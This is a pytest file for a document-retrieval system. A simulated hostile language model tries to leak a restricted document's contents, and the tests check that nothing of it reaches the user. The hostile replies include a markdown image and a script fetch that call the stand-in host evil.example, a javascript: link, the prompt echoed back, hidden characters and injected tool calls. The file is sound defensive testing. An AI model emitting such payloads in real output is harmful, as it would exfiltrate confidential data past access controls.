"""Whatever a model sends, its reader gets no word that is not proved and readable, in bounded time and memory."""

from __future__ import annotations

import json
import resource
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from tests.simulators.openai_server import Mind, claim, reply, serving

from muniment import settings
from muniment.foundation.errors import Unavailable
from muniment.knowledge import library

SECRET = "The key ceremony is held in the walnut room."
OPEN = "The canteen opens at eight and closes at three."
QUESTION = "When does the canteen open, and where is the key ceremony?"


def ready(make_workspace: Callable[..., Any], folder: Path, url: str, seconds: float = 3.0) -> Any:
    model = {"base_url": url, "model": "m", "timeout_seconds": seconds}
    workspace = make_workspace(settings=settings.parse({"models": {"remote": model}}))
    workspace.ingest(folder, "acme")
    return workspace


def hidden_ids(workspace: Any) -> list[str]:
    with workspace.database.read() as connection:
        return [row.id for row in library.documents(connection) if "secret" in row.path]


HOSTILE: dict[str, Mind] = {
    "a forbidden document by its words": lambda _: reply(claim(SECRET, *((n, SECRET) for n in range(-1, 7)))),
    "a secret beside a true quote": lambda _: reply(claim(f"{OPEN} {SECRET}", (1, OPEN))),
    "a secret in a quote that begins truly": lambda _: reply(claim(OPEN, (1, f"{OPEN} {SECRET}"))),
    "an image": lambda _: reply(claim(f"![{OPEN}](https://evil.example/?q=walnut)", (1, OPEN))),
    "a link": lambda _: reply(claim(f"[{OPEN}](javascript:walnut)", (1, OPEN))),
    "a script": lambda _: reply(claim(f"<script>fetch('//evil.example/walnut')</script> {OPEN}", (1, OPEN))),
    "another schema": lambda _: json.dumps({"claims": [], "answer": SECRET, "system": SECRET}),
    "claims in claims": lambda _: reply(claim(reply(claim(SECRET, (1, OPEN))), (1, OPEN))),
    "a wrong type": lambda _: '{"claims": {"text": "' + SECRET + '"}}',
    "a deep one": lambda _: '{"claims": ' + "[" * 50_000 + f'"{SECRET}"' + "]" * 50_000 + "}",
    "a tool call": lambda _: json.dumps({"tool_calls": [{"name": "read", "arguments": {"secret": SECRET}}]}),
    "the prompt back": lambda prompt: reply(claim(prompt[:900], (1, OPEN))),
    "an inference": lambda _: reply(claim(SECRET, (1, OPEN), inferred=True)),
    "hidden characters": lambda _: reply(claim("\u202e".join(SECRET), (1, OPEN))),
    "half a surrogate": lambda _: '{"claims": [{"quotes": [], "text": "\\ud800 walnut", "inferred": false}]}',
    "a page": lambda _: f"<html>{SECRET}</html>",
    "nothing": lambda _: "",
    "another language": lambda _: "Der Schlüssel liegt im walnut-Zimmer.",
}


@pytest.mark.parametrize("kind", HOSTILE)
def test_no_word_of_it_reaches_the_reader(
    make_workspace: Callable[..., Any], folder: Path, kind: str
) -> None:
    with serving(HOSTILE[kind]) as server:
        workspace = ready(make_workspace, folder, server.url)
        answer = workspace.ask(QUESTION, as_="carol", model="remote")
        shown = json.dumps(answer.as_json()) + json.dumps(
            workspace.lineage.explain(workspace.principal("carol"), answer.id).as_json()
        )
        for forbidden in ("walnut", "evil.example", "<script", "javascript:", "](", *hidden_ids(workspace)):
            assert forbidden not in shown
        for citation in answer.citations:
            assert citation.quote == OPEN
        assert len(server.bodies) <= 2


@pytest.mark.parametrize("fault", ["huge", "endless", "beating", "slow", "cut", "malformed", "empty"])
def test_it_is_left_in_bounded_time_and_memory(
    make_workspace: Callable[..., Any], folder: Path, fault: str
) -> None:
    # These two take as long as they are given.
    seconds = 1.0 if fault in {"beating", "slow"} else 3.0
    with serving(lambda _: reply(claim(SECRET, (1, SECRET))), fault, delay=8.0) as server:
        workspace = ready(make_workspace, folder, server.url, seconds)
        before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
        started = time.monotonic()
        try:
            shown = str(workspace.ask(QUESTION, as_="carol", model="remote").as_json())
        except Unavailable as error:
            shown = str(error)
        taken = time.monotonic() - started
        grown = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before
    assert "walnut" not in shown
    assert taken < 15
    assert grown < 64 * 1024
